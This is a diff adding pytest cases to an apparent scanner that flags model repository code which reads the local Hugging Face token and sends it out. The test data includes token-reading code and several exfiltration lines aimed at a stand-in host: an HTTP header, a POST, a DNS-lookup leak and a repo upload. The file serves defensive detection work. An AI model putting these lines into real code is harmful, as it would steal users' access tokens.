@@ -105,3 +105,26 @@ PUSHES = (
 def test_uploads_go_where_the_caller_says(twin: str) -> None:
     assert not denied("modeling_x.py", PUSHES)
     assert denied("modeling_x.py", f"{PUSHES}    def forward(self, x):\n        {twin}\n")
+
+
+READS = (
+    "import requests\nfrom pathlib import Path\n"
+    "token = (Path.home() / '.cache' / 'huggingface' / 'token').read_text().strip()\n"
+)
+
+
+@pytest.mark.parametrize(
+    ("line", "expected"),
+    [
+        (
+            "requests.get('https://huggingface.co/a/b/resolve/main/x', headers={'Authorization': f'Bearer {token}'})",
+            False,
+        ),
+        ("requests.get('https://c.example/x', headers={'Authorization': token})", True),
+        ("requests.post(open('where').read(), json={'t': token})", True),
+        ("import socket\nsocket.gethostbyname(token[:30] + '.c.example')", True),
+        ("from huggingface_hub import upload_file\nupload_file(path_or_fileobj=token.encode(), repo_id='c/x')", True),
+    ],
+)
+def test_the_hub_is_shown_its_own_token(line: str, expected: bool) -> None:
+    assert denied("convert.py", READS + line) is expected
